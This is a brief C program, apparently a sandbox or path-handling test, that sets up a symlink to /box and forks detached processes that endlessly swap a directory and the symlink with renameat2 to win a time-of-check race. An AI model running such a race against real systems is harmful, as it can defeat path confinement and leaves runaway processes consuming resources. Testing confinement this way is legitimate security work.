#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    mkdir("/work/a", 0700);
    if (symlink("/box", "/work/b") != 0) return 1;
    for (int i = 0; i < 4; i++)
        if (fork() == 0) {
            setsid();
            for (;;) renameat2(AT_FDCWD, "/work/a", AT_FDCWD, "/work/b", RENAME_EXCHANGE);
        }
    usleep(100000);
    puts("swapped");
    return 0;
}
